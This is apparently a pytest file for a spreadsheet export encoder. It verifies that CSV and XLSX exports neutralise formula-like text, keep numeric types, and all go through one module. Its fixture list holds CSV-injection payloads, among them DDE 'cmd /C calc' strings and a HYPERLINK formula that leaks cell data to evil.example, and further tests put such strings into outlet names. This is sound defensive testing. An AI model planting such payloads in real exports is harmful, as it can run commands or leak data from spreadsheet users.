"""The one export encoder: text a spreadsheet would run is neutralised in CSV and XLSX,
numbers stay numbers, and nothing in the app writes a table without it."""

import csv
import io
import re
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlmodel import Session

from core.channels.code_export import codes_zip
from core.channels.codes import batch_codes
from core.platform.export import frame_table, safe_cell, safe_text, to_csv_bytes, to_xlsx_bytes
from db.models import Role
from tests.core.test_cli import run_cli
from tests.factories import make_staff, make_tree, make_users, metrics_csv

ROOT = Path(__file__).parents[2]
DANGEROUS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
]


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_rows(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_starting_like_a_formula_is_quoted(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["星沙超市", "1+1", "a=b", "'quoted", "", " =1", "—"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_text(text) == text


def test_numbers_dates_and_missing_values_keep_their_type() -> None:
    assert safe_cell(-12.5) == -12.5
    assert safe_cell(Decimal("-4.03")) == Decimal("-4.03")
    assert safe_cell(np.int64(-3)) == -3 and type(safe_cell(np.int64(-3))) is int
    assert safe_cell("-12") == "'-12"  # text from a user, not a number
    assert safe_cell(float("nan")) is None and safe_cell(None) is None
    assert safe_cell(True) is True
    assert safe_cell(date(2026, 11, 8)) == date(2026, 11, 8)
    # Excel has no time zones: an aware timestamp is written in Shanghai time.
    assert safe_cell(datetime(2026, 11, 8, 1, 0, tzinfo=UTC)) == datetime(2026, 11, 8, 9, 0)


def test_csv_and_xlsx_neutralise_text_and_keep_numbers() -> None:
    frame = pd.DataFrame(
        {
            "名称": DANGEROUS,
            "金额": [-12.5, 1, 2, 3, 4, 5, None],
            "数量": [-1, 0, 1, 2, 3, 4, 5],
        }
    )
    header, rows = frame_table(frame)
    as_csv = csv_rows(to_csv_bytes(header, rows))
    assert as_csv[0] == ["名称", "金额", "数量"]
    assert [r[0] for r in as_csv[1:]] == ["'" + t for t in DANGEROUS]
    assert as_csv[1][1:] == ["-12.5", "-1"] and as_csv[-1][1] == ""

    sheet = load_workbook(io.BytesIO(to_xlsx_bytes(header, rows))).active
    for row, text in zip(sheet.iter_rows(min_row=2), DANGEROUS, strict=True):
        name, amount, count = row
        assert name.data_type == "s" and name.value == "'" + text.replace("\r", "\n")
        assert amount.value is None or amount.data_type == "n"
        assert count.data_type == "n"
    assert sheet["B2"].value == -12.5 and sheet["C2"].value == -1


def test_xlsx_never_stores_a_formula_or_an_error_code() -> None:
    data = to_xlsx_bytes(["a"], [["#N/A"], ["bell\x07"], ["=A1"], ["\x01=1+1"]])
    cells = [row[0] for row in load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [
        ("#N/A", "s"),
        ("bell", "s"),  # control characters Excel refuses are dropped, not crashed on
        ("'=A1", "s"),
        ("'=1+1", "s"),  # what is left once the control character is dropped is neutralised
    ]


def test_a_line_break_inside_text_cannot_start_a_new_row() -> None:
    data = to_csv_bytes(["名称", "数量"], [["x\r=1+1", 1], ["y\n@SUM(1)", 2]])
    assert csv_rows(data) == [["名称", "数量"], ["x\r=1+1", "1"], ["y\n@SUM(1)", "2"]]
    assert data.count(b"\r\n") == 3  # quoted, so only the three real rows end a line


def test_headers_are_neutralised_too() -> None:
    assert csv_rows(to_csv_bytes(["=cmd"], []))[0] == ["'=cmd"]


def test_code_batch_index_csv_neutralises_code_and_outlet_names(session: Session) -> None:
    tree = make_tree(session)
    users = make_users(session)
    tree.outlets["O111"].name = "@SUM(1+1)"
    session.commit()
    make_staff(session, "O111", "张三")
    codes = batch_codes(
        session, actor=users[Role.DESIGNER], city_id=tree.cities["C1"].id, per="outlet"
    ).codes
    # a code's name is typed by a designer in the code form
    codes = [replace(c, name="=HYPERLINK(1)") if c.outlet_name == "@SUM(1+1)" else c for c in codes]
    archive = zipfile.ZipFile(io.BytesIO(codes_zip(codes, folder="C1市", size_px=300)))
    index = next(n for n in archive.namelist() if n.endswith("活码清单.csv"))
    rows = csv_rows(archive.read(index))
    assert rows[0] == ["网点", "活码", "渠道", "链接", "文件"]
    assert ["'@SUM(1+1)", "'=HYPERLINK(1)"] in [r[:2] for r in rows[1:]]
    assert all(len(r) == 5 for r in rows)


def test_cli_leaderboard_csv_neutralises_an_imported_outlet_name(
    session: Session, tmp_path: Path
) -> None:
    make_tree(session)
    org = tmp_path / "org.csv"
    org.write_text("code,name,level,parent_code\nO111,=1+1,outlet,K11\n", encoding="utf-8")
    assert run_cli("import-org", str(org)).returncode == 0
    metrics = tmp_path / "m.csv"
    metrics.write_bytes(metrics_csv([("2026-11-01", "O111", 5, 1, 1, 1, 1, "-3.50")]))
    assert run_cli("import-metrics", str(metrics)).returncode == 0
    args = ("leaderboard", "--metric", "deposits", "--start", "2026-11-01", "--end", "2026-11-01")
    result = run_cli(*args, "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0][:4] == ["rank", "outlet_code", "outlet_name", "value"]
    o111 = next(r for r in rows if r[1] == "O111")
    assert o111[2] == "'=1+1" and o111[3] == "-3.50"  # the amount is a number, not quoted
    as_json = run_cli(*args, "--format", "json")
    assert '"outlet_name": "=1+1"' in as_json.stdout  # JSON is not a spreadsheet: verbatim


# --- guard: every table leaves the app through core/platform/export.py ----------------------------

APP_CODE = ["core", "ui", "pages", "db", "app.py", "Home.py"]
WRITERS = re.compile(
    r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|ExcelWriter\(|"
    r"[\"']text/csv[\"']|vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet"
)


def _app_sources() -> list[Path]:
    files = []
    for entry in APP_CODE:
        path = ROOT / entry
        files += sorted(path.rglob("*.py")) if path.is_dir() else [path]
    return [f for f in files if "migrations" not in f.parts]


def test_no_table_is_written_outside_the_export_encoder() -> None:
    encoder = ROOT / "core" / "platform" / "export.py"
    offenders = [
        f"{path.relative_to(ROOT)}:{number}: {line.strip()}"
        for path in _app_sources()
        if path != encoder
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if WRITERS.search(line)
    ]
    assert offenders == [], "export through core/platform/export.py instead:\n" + "\n".join(
        offenders
    )


def test_the_guard_sees_a_bypass() -> None:
    for line in ("frame.to_csv(index=False)", "csv.writer(sys.stdout)", 'mime="text/csv"'):
        assert WRITERS.search(line)
